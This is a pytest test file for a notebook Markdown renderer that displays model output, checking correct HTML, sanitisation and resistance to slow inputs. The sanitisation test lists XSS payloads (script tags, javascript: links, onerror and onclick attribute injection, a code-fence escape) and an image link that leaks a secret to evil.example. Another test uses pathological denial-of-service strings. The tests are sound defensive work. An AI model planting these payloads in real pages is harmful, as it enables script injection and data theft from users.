"""A model's Markdown in a saved notebook."""

import re
import time
from html import unescape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentflex_nb.widgets.prose import markdown


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo\n\nthree", "<p>one<br>two</p><p>three</p>"),
        ("# Title", "<h3>Title</h3>"),
        (
            "**a** *b* _c_ ~~d~~ `e*f*`",
            "<p><strong>a</strong> <em>b</em> <em>c</em> <del>d</del> <code>e*f*</code></p>",
        ),
        ("- a\n- b", "<ul><li>a</li><li>b</li></ul>"),
        ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
        ("> said", "<blockquote><p>said</p></blockquote>"),
        ("```python\na < b\n```", "<pre><code>a &lt; b</code></pre>"),
        ("```\nnever closed", "<pre><code>never closed</code></pre>"),
        ("---", "<hr>"),
        (
            "| a | b |\n|---|---|\n| 1 | 2 |",
            "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>",
        ),
        ("2 * 3 * 4 and snake_case_name", "<p>2 * 3 * 4 and snake_case_name</p>"),
        (
            "[docs](https://example.org/?a=1&b=2)",
            '<p><a href="https://example.org/?a=1&amp;b=2" target="_blank" '
            'rel="noopener noreferrer nofollow">docs</a></p>',
        ),
    ],
)
def test_the_usual_is_laid_out(text, html):
    assert markdown(text) == html


@pytest.mark.parametrize(
    "text",
    [
        "<script>hurt()</script>",
        "[x](javascript:hurt())",
        "[x](data:text/html,hurt)",
        '[x](https://a"onclick=hurt())',
        "![x](https://evil.example/?q=secret)",
        "`<img src=x>`",
        "```\n</code></pre><script>\n```",
        "# <b>x</b>",
        "| <i> | b |\n|---|---|\n| <u> | 2 |",
        "**<img src=x onerror=hurt()>**",
        "[**<b>**](https://a.example)",
    ],
)
def test_nothing_else_becomes_markup(text):
    tags = re.findall(r"<[^>]*>", markdown(text))

    plain = r"</?(p|br|h[3-6]|strong|em|del|code|pre|table|thead|tbody|tr|th|td|a)>"
    link = r'<a href="(https?://|mailto:)[^"<>]*" target="_blank" rel="[a-z ]*">'
    assert [tag for tag in tags if not re.fullmatch(f"{plain}|{link}", tag)] == []


@given(st.text(alphabet=st.sampled_from("ab<>&\"'*_~`[]()|#-+.>\n 1:/\\"), max_size=80))
def test_any_text_is_laid_out_without_unknown_tags_and_with_its_letters(text):
    html = markdown(text)

    tags = set(re.findall(r"</?([a-z0-9]+)", html))
    assert tags <= {
        "p", "br", "h3", "h4", "h5", "h6", "strong", "em", "del", "code", "pre",
        "table", "thead", "tbody", "tr", "th", "td", "a", "ul", "ol", "li", "blockquote", "hr",
    }  # fmt: skip
    kept = unescape(re.sub(r"<[^>]*>", "", html))
    if "```" not in text and "~~~" not in text:  # what stands behind an opening fence is the name of a language
        assert sorted(kept.replace(" ", "")).count("a") == sorted(text).count("a")


@pytest.mark.parametrize(
    "text",
    ["[" * 20_000, "*" * 20_000, "`" * 20_000, "|-" * 20_000, "- " * 20_000, "[a](https://" * 2_000, "_a " * 10_000],
)
def test_hostile_text_takes_no_time(text):
    started = time.perf_counter()

    markdown(text)

    assert time.perf_counter() - started < 1


@pytest.mark.parametrize(
    "text",
    ["# a{} b", "# a{}b", "|a{}b|\n|-|\n|x|", "|a|\n|{}x|", "{}x", "- {}x", "> {}x"],
)
@pytest.mark.parametrize("filling", [" ", "#", "`", "*", "_", "[", "-", "|", "~"])
def test_no_text_of_a_model_keeps_the_kernel_busy(text, filling):
    """K13: what took forty seconds takes none; the bound is for a machine that is very busy."""
    began = time.process_time()

    markdown(text.format(filling * 50_000))

    assert time.process_time() - began < 5


@pytest.mark.parametrize(
    ("text", "heading"), [("# C#", "C#"), ("# Closed ##", "Closed"), ("## ##", ""), ("#  spaced  # ", "spaced")]
)
def test_a_heading_loses_only_the_marks_that_close_it(text, heading):
    assert f">{heading}</h" in markdown(text)
